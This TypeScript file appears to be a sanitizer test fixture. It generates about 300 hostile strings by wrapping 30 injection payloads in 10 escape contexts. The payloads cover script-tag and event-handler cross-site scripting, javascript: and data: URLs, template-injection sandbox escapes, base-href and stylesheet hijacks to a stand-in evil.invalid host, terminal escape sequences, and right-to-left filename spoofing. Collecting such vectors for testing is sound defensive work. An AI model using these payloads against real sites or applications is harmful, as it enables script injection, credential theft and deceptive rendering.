/** Three hundred strings that would run, break out or mislead where text is taken for markup, code, styles, addresses or terminals. */
import { ELEMENT, HIT } from './watch';

const call = `${HIT}(1)`;

const PAYLOADS: readonly string[] = [
  `<script>${call}</script>`,
  `<ScRiPt src="data:text/javascript,${call}"></ScRiPt>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}"//`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  `<a href="javascript:${call}">x</a>`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<base href="https://evil.invalid/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href="https://evil.invalid/x.css">`,
  `<style>@import 'https://evil.invalid/x.css';*{display:none}</style>`,
  `<template><${ELEMENT}></${ELEMENT}></template><${ELEMENT}>`,
  `{@html '<img src=x onerror=${call}>'}`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `--><${ELEMENT}><!--`,
  `]]><${ELEMENT}><![CDATA[`,
  `\u001b]8;;javascript:${call}\u0007x\u001b]8;;\u0007\u001b[2J`,
  `\u202e>gp${call}j.exe\u2066`,
  `__proto__`,
];

/** Ways out of where a string is put. */
const FRAMES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</span></textarea></title></pre>${payload}`,
  (payload) => `\\"}];${payload}//`,
  (payload) => `x" onmouseover="${call}" style="background:url(javascript:${call})" ${payload}`,
  (payload) => `\`;${payload};\``,
  (payload) => `&lt;b&gt;${payload}&#x3c;/b&#x3e;`,
  (payload) => `${'a'.repeat(300)}${payload}`,
  (payload) => `é漢字🙂 ${payload}\u00a0\u2028\ufeff`,
];

export const HOSTILE: readonly string[] = FRAMES.flatMap((frame) => PAYLOADS.map(frame));
